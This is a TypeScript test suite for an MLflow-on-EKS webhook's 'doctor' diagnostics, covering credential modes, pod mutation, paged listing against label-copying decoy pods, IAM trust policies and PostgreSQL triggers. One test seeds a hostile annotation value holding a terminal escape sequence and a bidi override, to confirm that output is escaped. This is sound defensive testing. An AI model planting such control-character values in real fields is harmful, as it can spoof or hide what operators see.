  // the arguments, as argv and inside a shell line; a proxied default root is no override
  withEnvFrom([], ['server', '--host', '0.0.0.0', '--artifacts-destination=s3://domino-blobs-mlflow/mlflow']);
  expectCheck(t, (await w.doctor()).byId['deployment.arguments'], 'fail', /container mlflow runs with --artifacts-destination \(MLflow reads the argument before MLFLOW_ARTIFACTS_DESTINATION/, /containers\[\?\(@\.name=="mlflow"\)\]\.args/);
  withEnvFrom([], ['sh', '-c', 'mlflow server --default-artifact-root s3://other/root --no-serve-artifacts']);
  expectCheck(t, (await w.doctor()).byId['deployment.arguments'], 'fail', /--default-artifact-root \(new experiments get that root.*; --no-serve-artifacts \(it turns MLflow's artifact proxy off/);
  withEnvFrom([], ['server', '--default-artifact-root', 'mlflow-artifacts:/mlflow', '--serve-artifacts']);
  expectCheck(t, (await w.doctor()).byId['deployment.arguments'], 'pass', /no --artifacts-destination/);
  w.stub.seed(P.dep, undefined);
  r = await w.doctor();
  expectCheck(t, r.byId['deployment.credentials'], 'skip', /could not be read/);
  expectCheck(t, r.byId['deployment.arguments'], 'skip', /could not be read/);
});

t.test('pods.current and pods.old-replicasets: judged by the Deployment mutator, by ownership and revision', async (t) => {
  const w = await world(t);
  // a pod of the current ReplicaSet that lacks the mutation (created while the webhook was bypassed, say)
  const bad = k8sFixture('pod-mlflow');
  bad.metadata = { ...k8sFixture('pod-mlflow-mutated').metadata, name: 'mlflow-5b8f9c7d6e-b4d00', uid: 'c3d4e5f6-0a1b-4c2d-9e3f-4a5b6c7d8e03' };
  w.stub.seed(P.pod(bad.metadata.name), bad);
  let r = await w.doctor();
  expectCheck(t, r.byId['pods.current'], 'fail', /1 of 2 pods of ReplicaSet mlflow-5b8f9c7d6e lack the mutation \(mlflow-5b8f9c7d6e-b4d00: no volume aws-iam-token, /,
    /^kubectl -n domino-platform delete pod mlflow-5b8f9c7d6e-b4d00$/);
  // two mounts on the token directory (another webhook's beside ours) are not the one mount the pod needs
  const twice = k8sFixture('pod-mlflow-mutated');
  twice.spec.containers[0].volumeMounts.push({ name: 'eks-pod-identity-token', mountPath: '/var/run/secrets/eks.amazonaws.com/serviceaccount/' });
  w.stub.seed(P.pod(bad.metadata.name), { ...twice, metadata: bad.metadata });
  r = await w.doctor();
  expectCheck(t, r.byId['pods.current'], 'fail', /lack the mutation \(mlflow-5b8f9c7d6e-b4d00: remove volumeMount eks-pod-identity-token\)/);
  w.stub.seed(P.pod(bad.metadata.name), undefined);

  // an old ReplicaSet's pod still running
  w.stub.seed(P.pod(k8sFixture('pod-mlflow').metadata.name), k8sFixture('pod-mlflow'));
  r = await w.doctor();
  expectCheck(t, r.byId['pods.old-replicasets'], 'warn', /1 pod of older ReplicaSets still run \(mlflow-7c9d8f6b5d: mlflow-7c9d8f6b5d-x7k2p\)/, /rollout status deployment\/mlflow/);
  expectCheck(t, r.byId['pods.current'], 'pass', /1 pod of ReplicaSet mlflow-5b8f9c7d6e/);

  // no pod of the current ReplicaSet
  w.stub.seed(P.pod(k8sFixture('pod-mlflow-mutated').metadata.name), undefined);
  expectCheck(t, (await w.doctor()).byId['pods.current'], 'warn', /ReplicaSet mlflow-5b8f9c7d6e has no running pods/, /describe replicaset mlflow-5b8f9c7d6e/);
  w.stub.failNext('GET', '/api/v1/namespaces/domino-platform/pods?labelSelector=app.kubernetes.io%2Finstance%3Dmlflow%2Capp.kubernetes.io%2Fname%3Dmlflow&limit=25', 'status-forbidden');
  expectCheck(t, (await w.doctor()).byId['pods.current'], 'fail', /could not list pods: .*403/, /kubectl auth can-i list pods -n domino-platform/);
});

t.test('a namespace crowded with pods that copy mlflow\'s labels: paged lists, only the Deployment\'s own objects kept, a cap that says so', async (t) => {
  const w = await world(t);
  const NSP = 'domino-platform';
  const real = k8sFixture('pod-mlflow-mutated');
  const labels = k8sFixture('deployment-mlflow-mutated').spec.selector.matchLabels;
  // what a tenant's pods can carry: mlflow's labels, up to 256 KiB of annotations, managedFields; named so that they
  // come before mlflow's own pods in the API's (name) order
  const blob = 'x'.repeat(20 * 1024);
  const managedFields = [{ manager: 'kubectl-client-side-apply', operation: 'Update', apiVersion: 'v1', time: '2024-06-03T08:21:29Z', fieldsType: 'FieldsV1', fieldsV1: { 'f:metadata': { 'f:annotations': { 'f:tenant.example/blob': {} } } } }];
  const decoyPod = (i: number) => ({
    apiVersion: 'v1', kind: 'Pod',
    metadata: { name: `mlflow-0-copy-${String(i).padStart(4, '0')}`, namespace: NSP, uid: `0c0c0c0c-0000-4000-8000-${String(i).padStart(12, '0')}`, labels: { ...labels, 'pod-template-hash': '0copy' }, annotations: { 'tenant.example/blob': blob }, managedFields },
    spec: real.spec,
  });
  const decoyReplicaSet = (i: number) => ({
    apiVersion: 'apps/v1', kind: 'ReplicaSet',
    metadata: { name: `mlflow-0-copy-${String(i).padStart(4, '0')}`, namespace: NSP, uid: `0d0d0d0d-0000-4000-8000-${String(i).padStart(12, '0')}`, labels, annotations: { 'tenant.example/blob': blob, 'deployment.kubernetes.io/revision': '9' }, managedFields },
    spec: { replicas: 1, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: real.spec } },
  });
  const listRequests = (resource: string) => w.stub.requests.filter((q) => q.method === 'GET' && q.path.startsWith(`/${resource === 'pods' ? 'api/v1' : 'apis/apps/v1'}/namespaces/${NSP}/${resource}?`)).map((q) => new URL(q.path, 'https://x').searchParams);
  const kept = (r: { ok: boolean; value?: unknown } | undefined) => (r?.ok ? (r.value as { items: object[]; examined: number; complete: boolean }) : undefined);

  // 250 pods and 150 ReplicaSets that copy the labels: every page is read, mlflow's pod is found on the last one
  for (let i = 0; i < 250; i++) w.stub.seed(P.pod(decoyPod(i).metadata.name), decoyPod(i));
  for (let i = 0; i < 150; i++) w.stub.seed(P.rs(decoyReplicaSet(i).metadata.name), decoyReplicaSet(i));
  let r = await w.doctor();
  expectCheck(t, r.byId['pods.current'], 'pass', /^1 pod of ReplicaSet mlflow-5b8f9c7d6e carry the token volume/);
  expectCheck(t, r.byId['pods.old-replicasets'], 'pass', /^no pods of older ReplicaSets are running$/);
  t.same(LIST_LIMITS, { pageSize: 25, maxExamined: 500 }, 'pages of 25 (25 × 256 KiB of annotations at most), 500 objects at most');
  let pages = listRequests('pods');
  t.same(pages.map((q) => q.get('limit')), Array(11).fill('25'), '251 pods in 11 pages of 25');
  t.ok(pages.every((q) => q.get('labelSelector') === 'app.kubernetes.io/instance=mlflow,app.kubernetes.io/name=mlflow'), 'by the Deployment\'s labels');
  t.same(pages.map((q) => q.has('continue')), [false, ...Array(10).fill(true)], 'each later page continues the one before');
  t.same(listRequests('replicasets').map((q) => q.get('limit')), Array(7).fill('25'), '152 ReplicaSets in 7 pages');
  t.match(kept(r.facts.pods), { examined: 251, complete: true });
  t.match(kept(r.facts.replicaSets), { examined: 152, complete: true });
  t.same(kept(r.facts.pods)!.items.map((p: any) => p.metadata.name), [real.metadata.name], 'of 251 pods only the one the Deployment owns is kept');
  t.same(kept(r.facts.replicaSets)!.items.map((p: any) => p.metadata.name).sort(), ['mlflow-5b8f9c7d6e', 'mlflow-7c9d8f6b5d'], 'and of 152 ReplicaSets its own two');
  const keptText = JSON.stringify([kept(r.facts.pods)!.items, kept(r.facts.replicaSets)!.items]);
  t.notMatch(keptText, /managedFields|tenant\.example|creationTimestamp|"annotations":\{"[^d]/, 'only the fields the checks read');
  t.ok(keptText.length < 4096, `what is kept is small: ${keptText.length} bytes for 403 objects listed`);

  // 2,500 of them (about 50 MB of annotations): doctor stops at its cap, keeps none of them, and says what it did not see
  for (let i = 250; i < 2500; i++) w.stub.seed(P.pod(decoyPod(i).metadata.name), decoyPod(i));
  w.stub.requests.length = 0;
  r = await w.doctor();
  pages = listRequests('pods');
  t.equal(pages.length, 20, '20 pages of 25, then it stops');
  t.ok(pages.every((q) => q.get('limit') === '25'), 'no page larger than 25');
  t.match(kept(r.facts.pods), { examined: 500, complete: false, items: [] });
  expectCheck(t, r.byId['pods.current'], 'warn',
    /^ReplicaSet mlflow-5b8f9c7d6e has no running pods; doctor looked at the first 500 pods matching the Deployment's labels and stopped there; more match \(pods that copy mlflow's labels, or a crowded namespace\), so this is judged on part of them$/,
    /^kubectl -n domino-platform describe replicaset mlflow-5b8f9c7d6e$/);
  expectCheck(t, r.byId['pods.old-replicasets'], 'warn', /^no pods of older ReplicaSets are running; doctor looked at the first 500 pods/,
    /^kubectl -n domino-platform get pods -l app\.kubernetes\.io\/instance=mlflow,app\.kubernetes\.io\/name=mlflow --sort-by=\.metadata\.creationTimestamp$/);
  // a smaller cap, for the ReplicaSets too
  r = await w.doctor({ listLimits: { pageSize: 50, maxExamined: 120 } });
  t.match(kept(r.facts.replicaSets), { examined: 120, complete: false });
  t.match(r.byId['pods.current'].message, /doctor looked at the first 120 ReplicaSets and the first 120 pods matching/);
});

t.test('a continue token the API server refuses: the list fails with the server\'s reason, not a crash', async (t) => {
  const w = await world(t);
  const kube = await kubeClient(w.stub.kubeconfig);
  await t.rejects(listPaged((p) => kube.listPods('domino-platform', { ...p, continue: 'not-a-token' }), '', (x) => x),
    { message: /list pods in domino-platform: 400 BadRequest: continue key is not valid/ });
});

t.test('serviceaccount.annotation: unannotated, another role, missing', async (t) => {
  const w = await world(t);
  w.stub.seed(P.sa, k8sFixture('serviceaccount-mlflow'));
  expectCheck(t, (await w.doctor()).byId['serviceaccount.annotation'], 'fail', /lacks eks\.amazonaws\.com\/role-arn and eks\.amazonaws\.com\/sts-regional-endpoints as configured \(eks\.amazonaws\.com\/role-arn is not set\)/,
    /^kubectl -n domino-platform annotate serviceaccount mlflow eks\.amazonaws\.com\/role-arn=arn:aws:iam::111122223333:role\/sw-mlflow-full-access eks\.amazonaws\.com\/sts-regional-endpoints=true --overwrite$/);
  const other = annotatedServiceAccount();
  other.metadata.annotations['eks.amazonaws.com/role-arn'] = 'arn:aws:iam::111122223333:role/old';
  w.stub.seed(P.sa, other);
  expectCheck(t, (await w.doctor()).byId['serviceaccount.annotation'], 'fail', /role-arn is "arn:aws:iam::111122223333:role\/old"/);
  w.stub.seed(P.sa, undefined);
  expectCheck(t, (await w.doctor()).byId['serviceaccount.annotation'], 'fail', /ServiceAccount domino-platform\/mlflow not found/);
});

t.test('credentials pod-identity: the installation after the move passes every Kubernetes check, the dry run probing the destination', async (t) => {
  const w = await world(t, { config: podIdentity });
  const { results, byId } = await w.doctor();
  for (const r of kubernetesChecks(results, podIdentity)) t.equal(r.status, 'pass', `${r.id}: ${r.message}`);
  expectCheck(t, byId['deployment.template'], 'pass', /carries the AWS env, and no IRSA token or web identity \(credentials pod-identity\)/);
  expectCheck(t, byId['pods.current'], 'pass', /1 pod of ReplicaSet mlflow-6d4f8b9c7a carry the AWS env, no IRSA token or web identity/);
  expectCheck(t, byId['pods.credentials'], 'pass', /1 pod of ReplicaSet mlflow-6d4f8b9c7a carry Pod Identity's AWS_CONTAINER_CREDENTIALS_FULL_URI, AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE and no web identity: botocore uses Pod Identity/);
  expectCheck(t, byId['serviceaccount.annotation'], 'pass', /ServiceAccount domino-platform\/mlflow names no IAM role/);
  expectCheck(t, byId['pod-identity.agent'], 'pass', /DaemonSet kube-system\/eks-pod-identity-agent is ready on 3 nodes/);
  expectCheck(t, byId['admission.dry-run'], 'pass', /comes back mutated/);
  t.match(w.stub.requests.find((q) => q.method === 'PATCH')?.body, [{ op: 'test', value: 'MLFLOW_ARTIFACTS_DESTINATION' }, { op: 'remove' }], 'the probe is an entry the pod-identity mutation writes');

  // the Deployment as IRSA left it, before the restart: the template lacks the pod-identity mutation
  w.stub.seed(P.dep, k8sFixture('deployment-mlflow-mutated'));
  expectCheck(t, (await w.doctor()).byId['deployment.template'], 'fail', /lacks the mutation \(remove volume aws-iam-token, remove volumeMount aws-iam-token, remove env AWS_ROLE_ARN, remove env AWS_WEB_IDENTITY_TOKEN_FILE\)/,
    /rollout restart deployment\/mlflow/);
});

t.test('pods.credentials: which credentials botocore finds in the running pods, in either mode', async (t) => {
  const w = await world(t, { config: podIdentity });
  const piPod = k8sFixture('pod-mlflow-pod-identity');
  const at = P.pod(piPod.metadata.name);
  const withEnv = (edit: (env: any[]) => any[]) => {
    const pod = structuredClone(piPod);
    pod.spec.containers[0].env = edit(pod.spec.containers[0].env);
    w.stub.seed(at, pod);
  };
  // the ServiceAccount still named a role when the pod started: EKS's webhook gave it web identity too
  withEnv((env) => [...env, { name: 'AWS_ROLE_ARN', value: 'arn:aws:iam::111122223333:role/sw-mlflow-full-access' }, { name: 'AWS_WEB_IDENTITY_TOKEN_FILE', value: '/var/run/secrets/eks.amazonaws.com/serviceaccount/token' }]);
  expectCheck(t, (await w.doctor()).byId['pods.credentials'], 'fail',
    /1 of 1 pod of ReplicaSet mlflow-6d4f8b9c7a \(mlflow-6d4f8b9c7a-h7v2x\) carry web identity \(AWS_ROLE_ARN, AWS_WEB_IDENTITY_TOKEN_FILE\), which botocore uses before Pod Identity's credentials: mlflow still runs on IRSA/,
    /kubectl -n domino-platform rollout restart deployment\/mlflow/);
  // no association when it started: EKS's webhook added nothing
  withEnv((env) => env.filter((e) => !e.name.startsWith('AWS_CONTAINER_')));
  expectCheck(t, (await w.doctor()).byId['pods.credentials'], 'fail',
    /\(mlflow-6d4f8b9c7a-h7v2x\) lack AWS_CONTAINER_CREDENTIALS_FULL_URI, AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE: EKS found no Pod Identity association for domino-platform\/mlflow when they started, so botocore finds no credentials/,
    /^aws eks list-pod-identity-associations --cluster-name <cluster> --namespace domino-platform --service-account mlflow/);
  w.stub.seed(at, undefined);
  expectCheck(t, (await w.doctor()).byId['pods.credentials'], 'skip', /no running pod of the current ReplicaSet/);

  // irsa: an association made while the IRSA mutation is in place gives the pod both; botocore keeps using IRSA
  const irsa = await world(t);
  const both = k8sFixture('pod-mlflow-mutated');
  both.spec.containers[0].env.push(...piPod.spec.containers[0].env.filter((e: any) => e.name.startsWith('AWS_CONTAINER_')));
  irsa.stub.seed(P.pod(both.metadata.name), both);
  expectCheck(t, (await irsa.doctor()).byId['pods.credentials'], 'warn',
    /carry both web identity \(AWS_ROLE_ARN, AWS_WEB_IDENTITY_TOKEN_FILE\) and Pod Identity's AWS_CONTAINER_CREDENTIALS_FULL_URI, AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE: botocore uses web identity, so IRSA and arn:aws:iam::111122223333:role\/sw-mlflow-full-access/,
    /aws eks list-pod-identity-associations .*Choosing IRSA or Pod Identity/);
  irsa.stub.seed(P.pod(both.metadata.name), undefined);
  irsa.stub.failNext('GET', '/api/v1/namespaces/domino-platform/pods?labelSelector=app.kubernetes.io%2Finstance%3Dmlflow%2Capp.kubernetes.io%2Fname%3Dmlflow&limit=25', 'status-forbidden');
  expectCheck(t, (await irsa.doctor()).byId['pods.credentials'], 'fail', /could not list pods: .*403/, /kubectl auth can-i list pods -n domino-platform/);
});

t.test('pod-identity.agent: ready, partly ready, on no node, missing; skipped with irsa', async (t) => {
  const w = await world(t, { config: podIdentity });
  const agent = k8sFixture('daemonset-eks-pod-identity-agent');
  w.stub.seed(P.agent, { ...agent, status: { ...agent.status, numberReady: 2, numberAvailable: 2 } });
  expectCheck(t, (await w.doctor()).byId['pod-identity.agent'], 'warn', /is ready on 2 of 3 nodes: an mlflow pod on another node gets no credentials/,
    /^kubectl -n kube-system rollout status daemonset\/eks-pod-identity-agent$/);
  w.stub.seed(P.agent, { ...agent, status: { ...agent.status, numberReady: 0, numberAvailable: 0 } });
  expectCheck(t, (await w.doctor()).byId['pod-identity.agent'], 'fail', /is ready on none of its 3 nodes/);
  w.stub.seed(P.agent, { ...agent, status: { desiredNumberScheduled: 0, numberReady: 0 } });
  expectCheck(t, (await w.doctor()).byId['pod-identity.agent'], 'fail', /runs on no node/, /describe daemonset eks-pod-identity-agent/);
  w.stub.seed(P.agent, undefined);
  expectCheck(t, (await w.doctor()).byId['pod-identity.agent'], 'fail', /DaemonSet kube-system\/eks-pod-identity-agent not found: the EKS Pod Identity Agent add-on is not installed/,
    /^aws eks create-addon --cluster-name <cluster> --addon-name eks-pod-identity-agent$/);
  await w.stub.pause();
  expectCheck(t, (await w.doctor()).byId['pod-identity.agent'], 'skip', /needs kubernetes\.api, which failed/);
  await w.stub.resume();
});

t.test('serviceaccount.annotation with credentials pod-identity: a role annotation fails, naming the role, with the command that removes it', async (t) => {
  const w = await world(t, { config: podIdentity });
  w.stub.seed(P.sa, annotatedServiceAccount());
  expectCheck(t, (await w.doctor()).byId['serviceaccount.annotation'], 'fail',
    /ServiceAccount domino-platform\/mlflow carries eks\.amazonaws\.com\/role-arn and eks\.amazonaws\.com\/sts-regional-endpoints: while it names "arn:aws:iam::111122223333:role\/sw-mlflow-full-access", EKS gives the pods web identity, which botocore uses before Pod Identity/,
    /^kubectl -n domino-platform annotate serviceaccount mlflow eks\.amazonaws\.com\/role-arn- eks\.amazonaws\.com\/sts-regional-endpoints-$/);
  const sa = k8sFixture('serviceaccount-mlflow');
  sa.metadata.annotations['eks.amazonaws.com/sts-regional-endpoints'] = 'true';
  w.stub.seed(P.sa, sa);
  expectCheck(t, (await w.doctor()).byId['serviceaccount.annotation'], 'fail', /carries eks\.amazonaws\.com\/sts-regional-endpoints: IRSA's, unused with Pod Identity/);
});

t.test('reconcile.lease: fresh, stale, unheld, missing, or reconcile off', async (t) => {
  const w = await world(t);
  const lease = w.stub.object(P.lease);
  w.stub.seed(P.lease, { ...lease, spec: { ...lease.spec, renewTime: micro(Date.now() - 120_000) } });
  expectCheck(t, (await w.doctor({ keepLease: true })).byId['reconcile.lease'], 'fail', /held by mlflow-irsa-webhook-6d9f7c5b8-h2k4m, last renewed 1[2-9]\d s ago \(lease duration 15 s\): the leader stopped renewing/, /logs -l app.kubernetes.io\/component=webhook/);
  w.stub.seed(P.lease, { ...lease, spec: { leaseDurationSeconds: 15 } });
  expectCheck(t, (await w.doctor({ keepLease: true })).byId['reconcile.lease'], 'fail', /has no holder: no webhook replica is leading/);
  w.stub.seed(P.lease, undefined);
  expectCheck(t, (await w.doctor()).byId['reconcile.lease'], 'fail', /Lease mlflow-irsa-webhook\/mlflow-irsa-webhook-reconcile not found/, /helm -n mlflow-irsa-webhook upgrade/);
  const off = parseConfig({ ...JSON.parse(JSON.stringify(config)), reconcile: { enabled: false } });
  expectCheck(t, (await w.doctor({ config: off })).byId['reconcile.lease'], 'skip', /reconcile\.enabled is false/);
});

t.test('migration.artifacts: the destination the webhook replaced warns until migration.completedFrom lists it; nothing replaced passes', async (t) => {
  const w = await world(t);
  const OLD = 's3://domino-blobs-mlflow/mlflow';
  // the fixture's Deployment as the webhook leaves it on its first rollout: Domino's value recorded on its own metadata
  const recorded = (value: unknown) => {
    const d = k8sFixture('deployment-mlflow-mutated');
    d.metadata.annotations[PREVIOUS_DESTINATION_ANNOTATION] = value;
    return d;
  };
  expectCheck(t, (await w.doctor()).byId['migration.artifacts'], 'pass',
    /^Deployment domino-platform\/mlflow records no replaced artifacts destination \(annotation mlflow-irsa-webhook\.io\/previous-artifacts-destination\): nothing to copy$/);

  w.stub.seed(P.dep, recorded(OLD));
  const { byId, results } = await w.doctor();
  expectCheck(t, byId['migration.artifacts'], 'warn',
    /^Deployment domino-platform\/mlflow records the artifacts destination the webhook replaced, "s3:\/\/domino-blobs-mlflow\/mlflow": artifacts stored through MLflow's proxy before the switch load only once copied to s3:\/\/sw-domino-project-based-mlflow; the copy is not marked done in migration\.completedFrom$/,
    /^mlflow-irsa-webhook migrate-artifacts --config config\.yaml > migrate-artifacts\.sh  # review, run it, then add "s3:\/\/domino-blobs-mlflow\/mlflow" to migration\.completedFrom$/);
  t.same(results.filter((r) => (r.status === 'warn' || r.status === 'fail') && !r.id.startsWith('trigger.') && r.id !== 'iam.trust-policy').map((r) => r.id), ['migration.artifacts'], 'a warning, nothing else changes');

  // the operator's marker lives in the config: a Domino re-apply of the Deployment (annotation and all) cannot undo it
  const done = (completedFrom: string[]) => parseConfig({ ...JSON.parse(JSON.stringify(config)), migration: { completedFrom } });
  expectCheck(t, (await w.doctor({ config: done([`${OLD}/`]) })).byId['migration.artifacts'], 'pass',
    /^the copy from the replaced destination "s3:\/\/domino-blobs-mlflow\/mlflow" to s3:\/\/sw-domino-project-based-mlflow is marked done \(migration\.completedFrom\)$/);
  expectCheck(t, (await w.doctor({ config: done(['s3://domino-blobs-mlflow/other']) })).byId['migration.artifacts'], 'warn', /records the artifacts destination the webhook replaced/);
  w.stub.seed(P.dep, recorded(`${OLD}/`));
  expectCheck(t, (await w.doctor({ config: done([OLD]) })).byId['migration.artifacts'], 'pass', /marked done/);
  w.stub.seed(P.dep, recorded('s3://sw-domino-project-based-mlflow'));
  expectCheck(t, (await w.doctor()).byId['migration.artifacts'], 'pass', /is artifactsDestination itself: nothing to copy$/);
  w.stub.seed(P.dep, recorded('s3://x/\u001b[2J\u202e'));
  expectCheck(t, (await w.doctor()).byId['migration.artifacts'], 'warn', /replaced, "s3:\/\/x\/\\u001b\[2J\\u202e":/, /add "s3:\/\/x\/\\u001b\[2J\\u202e" to/);
  w.stub.seed(P.dep, undefined);
  expectCheck(t, (await w.doctor()).byId['migration.artifacts'], 'skip', /^Deployment domino-platform\/mlflow could not be read \(see deployment\.template\)$/);

  // with the tracking database: how many references resolve through the proxy (this server's, not another's)
  const { server, c, database } = await trackingDatabase(t);
  await c.query(`CREATE TABLE runs (run_uuid VARCHAR(32) PRIMARY KEY, artifact_uri VARCHAR(200), experiment_id INTEGER REFERENCES experiments);
    INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage) VALUES
      (0, 'Default', 'mlflow-artifacts:/0', 'active'), (1, 'other-server', 'mlflow-artifacts://mlflow.other.example/1', 'active'),
      (2, 'direct', 's3://domino-blobs-mlflow/mlflow/2', 'active'), (3, 'empty-host', 'mlflow-artifacts:///3', 'active');
    INSERT INTO runs VALUES ('${'a'.repeat(32)}', 'mlflow-artifacts:/0/${'a'.repeat(32)}/artifacts', 0), ('${'b'.repeat(32)}', 'MLFLOW-ARTIFACTS:/0/${'b'.repeat(32)}/artifacts', 0),
      ('${'c'.repeat(32)}', 's3://domino-blobs-mlflow/mlflow/2/${'c'.repeat(32)}/artifacts', 2)`);
  w.stub.seed(P.dep, recorded(OLD));
  expectCheck(t, (await w.doctor(database)).byId['migration.artifacts'], 'warn',
    /load only once copied to s3:\/\/sw-domino-project-based-mlflow; the tracking database holds 4 mlflow-artifacts: reference\(s\), which MLflow resolves against the current destination; the copy is not marked done/);
  // a login that may not read runs (doctor's read-only one without the optional grants) counts the rest and says so
  await c.query("CREATE ROLE limited LOGIN PASSWORD 'Limited-Reads-1'; GRANT SELECT ON experiments, experiment_tags TO limited");
  const limited = { database: { databaseUrl: `postgres://limited:Limited-Reads-1@127.0.0.1:${server.port}/mlflow?sslmode=disable`, env: {} } };
  expectCheck(t, (await w.doctor(limited)).byId['migration.artifacts'], 'warn',
    /holds 2 mlflow-artifacts: reference\(s\), which MLflow resolves against the current destination \(not counted, this login may not read them: runs\.artifact_uri\)/);
});

// Each case is a policy written by hand (as an operator or the manual procedure wrote it, never by iam-policy's
// generator) with the verdict it must get, under the example config or the case's own `config` (keys over it): names
// that all differ (the ServiceAccount not named like the Deployment, another audience and partition) are what
// tell a right condition from one built of the wrong values.
t.test('iam.trust-policy: each case in test/fixtures/doctor/trust', async (t) => {
  const w = await world(t);
  const dir = join(root, 'test/fixtures/doctor/trust');
  const tmp = mkdtempSync(join(tmpdir(), 'doctor-trust-'));
  t.teardown(() => rmSync(tmp, { recursive: true, force: true }));
  for (const file of readdirSync(dir).filter((f) => f.endsWith('.json')).sort()) {
    const c = JSON.parse(readFileSync(join(dir, file), 'utf8'));
    const policyFile = join(tmp, file);
    writeFileSync(policyFile, JSON.stringify(c.policy));
    w.stub.issuer = c.issuer ?? undefined;
    const pi = c.credentials === 'pod-identity';
    const base = pi ? podIdentity : config;
    const cfg = c.config ? parseConfig({ ...JSON.parse(JSON.stringify(base)), ...c.config }) : base;
    const r = (await w.doctor({ config: cfg, trustPolicyFile: policyFile, ...(c.oidcProvider && { oidcProvider: c.oidcProvider }) })).byId['iam.trust-policy'];
    t.equal(r.status, c.expect.status, `${file} (${c.about}): ${r.message}`);
    t.match(r.message, new RegExp(c.expect.message), `${file}: message`);
    const fix = pi ? /^mlflow-irsa-webhook iam-policy --config config\.yaml --cluster-name <cluster> --output aws-cli > role\.sh && sh role\.sh$/
      : /mlflow-irsa-webhook iam-policy --config config\.yaml --oidc-provider \S+ --output aws-cli|aws eks describe-cluster|aws iam get-role/;
    if (r.status !== 'pass') t.match(r.fix ?? '', fix, `${file}: fix`);
  }
  w.stub.issuer = ISSUER;
  const notJson = join(tmp, 'broken.json');
  writeFileSync(notJson, '{"Version":');
  expectCheck(t, (await w.doctor({ trustPolicyFile: notJson })).byId['iam.trust-policy'], 'fail', /--trust-policy .*broken\.json is not JSON/, /aws iam get-role --role-name sw-mlflow-full-access --query Role\.AssumeRolePolicyDocument > trust\.json/);
  expectCheck(t, (await w.doctor({ trustPolicyFile: join(tmp, 'absent.json') })).byId['iam.trust-policy'], 'fail', /cannot read: ENOENT/);
});

// ---------------------------------------------------------------------------------------------------------------
// The trigger checks against a real PostgreSQL.

const MLFLOW_TABLES = `
  CREATE TABLE experiments (experiment_id SERIAL PRIMARY KEY, name VARCHAR(256) NOT NULL UNIQUE, artifact_location VARCHAR(256),
    lifecycle_stage VARCHAR(32), creation_time BIGINT, last_update_time BIGINT);
  CREATE TABLE experiment_tags (key VARCHAR(250) NOT NULL, value VARCHAR(5000), experiment_id INTEGER NOT NULL REFERENCES experiments,
    PRIMARY KEY (key, experiment_id));`;

/** MLflow's create_experiment: the row, its tags, then MLflow's own UPDATE of artifact_location, in one transaction. */
async function createExperiment(c: pg.Client, name: string, tags: Record<string, string>): Promise<number> {
  await c.query('BEGIN');
  try {
    const { rows } = await c.query<{ experiment_id: number }>("INSERT INTO experiments (name, lifecycle_stage) VALUES ($1, 'active') RETURNING experiment_id", [name]);
    const id = rows[0].experiment_id;
    for (const [key, value] of Object.entries(tags)) await c.query('INSERT INTO experiment_tags (key, value, experiment_id) VALUES ($1, $2, $3)', [key, value, id]);
    await c.query('UPDATE experiments SET artifact_location = $1 WHERE experiment_id = $2', [`mlflow-artifacts:/${id}`, id]);
    await c.query('COMMIT');
    return id;
  } catch (err) {
    await c.query('ROLLBACK');
    throw err;
  }
}

/** MLflow's Default experiment as its first start creates it, the tracking server proxying artifacts (root mlflow-artifacts:/). */
const DEFAULT_EXPERIMENT = "INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage) VALUES (0, 'Default', 'mlflow-artifacts:/0', 'active')";
const withTrigger = (cfg: Config, trigger: Record<string, unknown>) => parseConfig({ ...JSON.parse(JSON.stringify(cfg)), trigger: { ...cfg.trigger, ...trigger } });

/** Stores tags as nothing but a trigger that was off would have let them be: `work` runs with our triggers disabled. */
async function triggersOff<T>(c: pg.Client, work: () => Promise<T>): Promise<T> {
  await c.query('ALTER TABLE experiment_tags DISABLE TRIGGER ALL; ALTER TABLE experiments DISABLE TRIGGER ALL');
  try {
    return await work();
  } finally {
    await c.query('ALTER TABLE experiment_tags ENABLE TRIGGER ALL; ALTER TABLE experiments ENABLE TRIGGER ALL');
  }
}

/** A PostgreSQL server with MLflow's tables in database mlflow (and an empty database beside it). */
async function trackingDatabase(t: Test): Promise<{ server: TestPostgres; c: pg.Client; database: Partial<ReadOptions> }> {
  const server: TestPostgres = await startPostgres();
  t.teardown(() => server.stop());
  const admin = await server.client();
  await admin.query('CREATE DATABASE mlflow');
  await admin.query('CREATE DATABASE empty');
  await admin.end();
  const c = await server.client('mlflow');
  t.teardown(() => c.end());
  await c.query(MLFLOW_TABLES);
  return { server, c, database: { database: { databaseUrl: server.url('mlflow'), env: {} } } };
}

t.test('trigger checks against a real PostgreSQL', async (t) => {
  const { server, c, database } = await trackingDatabase(t);
  const w = await world(t);
  const TAG = 'mlflow.domino.project_id';

  // before the trigger: an experiment tagged while nothing rewrote its location
  const early = await createExperiment(c, 'before-the-trigger', { [TAG]: 'proj-early' });
  let r = (await w.doctor(database)).byId;
  expectCheck(t, r['trigger.connection'], 'pass', /connected to database "mlflow", which has MLflow's tables in schema public/);
  expectCheck(t, r['trigger.installed'], 'fail',
    /^our trigger mlflow_irsa_artifact_location_trg is not installed on public\.experiment_tags; our function public\.mlflow_irsa_artifact_location\(\) is missing; our function public\.mlflow_irsa_is_our_tag\(experiment_tags\) is missing; our table public\.mlflow_irsa_location_audit is missing$/,
    /^mlflow-irsa-webhook install-trigger --config config\.yaml$/);
  for (const id of ['trigger.function', 'trigger.deferred', 'trigger.location-policy']) expectCheck(t, r[id], 'skip', /needs trigger\.installed, which failed/);
  expectCheck(t, r['trigger.legacy'], 'pass', /no leftover trigger/);
  expectCheck(t, r['trigger.drift'], 'warn', new RegExp(`^1 of 1 tagged experiment are not where their tag puts them \\(e\\.g\\. experiment ${early} is at mlflow-artifacts:/${early}, the rule gives s3://sw-domino-project-based-mlflow/mlflow/proj-early\\)$`),
    /^mlflow-irsa-webhook install-trigger --config config\.yaml --backfill$/);

  // installed auditing (the default) without MLflow's default root: the Default experiment is not there to take it from
  t.equal(config.trigger.locationPolicy, 'audit');
  await installTrigger(c, config, quiet());
  await createExperiment(c, 'after', { [TAG]: 'proj-2' });
  r = (await w.doctor(database)).byId;
  expectCheck(t, r['trigger.installed'], 'pass', /trigger on public\.experiment_tags, function public\.mlflow_irsa_artifact_location\(\), table public\.mlflow_irsa_location_audit, mode project-id on tag mlflow\.domino\.project_id/);
